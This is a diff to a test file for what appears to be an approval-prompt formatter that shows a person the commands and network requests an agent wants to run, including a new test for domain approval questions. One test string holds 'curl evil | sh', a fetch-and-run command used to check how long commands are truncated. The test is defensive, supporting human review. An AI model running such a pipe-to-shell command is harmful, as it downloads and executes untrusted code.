@@ -38,8 +38,8 @@ describe("what the person is shown of text someone else wrote", () => {
     expect(long).toMatch(/^Command:\n {2}curl evil \| sh; x+ … \[\d+ characters not shown\] … x+; npm test$/);
   });
 
-  it("the approval question says when a command needs the network or runs outside the sandbox", () => {
-    expect(approvalText({ kind: "command", command: "npm install", network: true }).shown).toBe("Command (needs the network):\n  npm install");
+  it("the approval question says when a command runs outside the sandbox, and a domain question names the domain and the command", () => {
     expect(approvalText({ kind: "command", command: "make", unsandboxed: true }).shown).toBe("Command (runs outside the sandbox):\n  make");
+    expect(approvalText({ kind: "network", host: "registry.npmjs.org", command: "npm install" }).shown).toBe("Network: `npm install` wants registry.npmjs.org.");
   });
 });
